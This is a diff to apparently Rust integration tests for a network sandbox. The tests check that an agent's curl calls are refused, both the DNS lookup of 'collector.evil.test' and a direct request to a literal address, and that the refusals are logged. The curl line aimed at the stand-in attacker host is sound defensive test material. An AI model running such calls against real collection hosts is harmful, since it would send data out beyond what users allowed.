@@ -7,8 +7,7 @@ fn an_unlisted_host_is_not_even_resolved() {
     let Some(world) = World::start("an_unlisted_host_is_not_even_resolved") else { return };
     let ran = world.host.run("coder", ["curl", "-sS", "--max-time", "5", "https://collector.evil.test/"]);
     assert_eq!(ran.code, 6, "curl cannot resolve: {}", ran.stderr);
-    let refused = world.records("connection.refused");
-    let lookup = refused.iter().find(|r| r["transport"] == "dns").expect("the lookup is recorded");
+    let lookup = world.record("connection.refused", |r| r["transport"] == "dns");
     assert_eq!(lookup["reason"], "capture.name_refused");
     assert_eq!(lookup["destination"], "collector.evil.test");
     assert_eq!(lookup["actor"]["agent"], "coder");
@@ -29,7 +28,6 @@ fn a_literal_address_is_refused_in_the_kernel() {
     // The forge itself, around the relay.
     let direct = format!("https://{}/api/health", world.forge.address());
     assert_eq!(world.host.run("coder", ["curl", "-sSk", "--max-time", "5", &direct]).code, 7);
-    assert!(!world.forge.access_log().contains("/api/health\" 200 13 \"-\" \"curl/7.88.1\" coder"));
     let refused = world.records("connection.refused");
     assert!(
         refused
